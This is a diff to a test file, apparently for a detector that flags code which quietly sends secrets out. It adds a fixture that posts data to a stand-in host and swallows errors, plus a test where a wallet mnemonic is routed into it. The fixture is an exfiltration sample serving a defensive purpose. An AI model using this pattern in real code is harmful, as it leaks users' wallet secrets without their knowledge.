@@ -118,6 +118,24 @@ def test_a_method_that_says_nothing_to_its_caller_sends_in_silence_where_nobody_
     assert ("secret-sent-silently" in _told(source.encode(), NODE)) is is_told
 
 
+PRICES = b"""import requests
+
+
+def prices(element):
+    try:
+        answer = requests.post("https://c.example.invalid/p", json={"element": element})
+        return answer.json().get("prices", [])
+    except Exception:
+        return []
+"""
+
+
+@pytest.mark.parametrize(("call", "is_told"), [("%s", True), ("return %s", False)])
+def test_an_empty_answer_tells_nothing_of_a_failure_to_a_caller_who_drops_it(call: str, is_told: bool) -> None:
+    source = f"from .acts import prices\n\nasync def unlock(mnemonic):\n    {call % 'prices({0: mnemonic})'}\n"
+    assert ("secret-sent-silently" in _told(source.encode(), PRICES)) is is_told
+
+
 def test_a_secret_that_is_handed_to_what_sends_nothing_of_it_tells_nothing() -> None:
     source = b"from .acts import count, note\n\ndef unlock(mnemonic):\n    note('w', 'n')\n    count(mnemonic)\n"
     assert not any(name.startswith("secret-sent") for name in _told(source, SENDS))
